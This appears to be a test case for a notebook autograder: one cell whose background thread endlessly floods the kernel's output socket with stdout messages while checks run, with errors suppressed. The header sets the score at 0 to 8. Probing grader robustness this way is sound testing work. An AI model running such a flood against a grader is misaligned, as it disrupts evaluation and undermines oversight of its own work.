# %% [markdown]
# A thread floods the grader with messages while checks run.
#
# earns: 0 to 8

# %% own="first"
import threading

from IPython import get_ipython

kernel = get_ipython().kernel
parent = kernel.get_parent("shell")


def flood():
    while True:
        try:
            kernel.session.send(
                kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 100}, parent=parent
            )
        except Exception:
            pass


threading.Thread(target=flood, daemon=True).start()
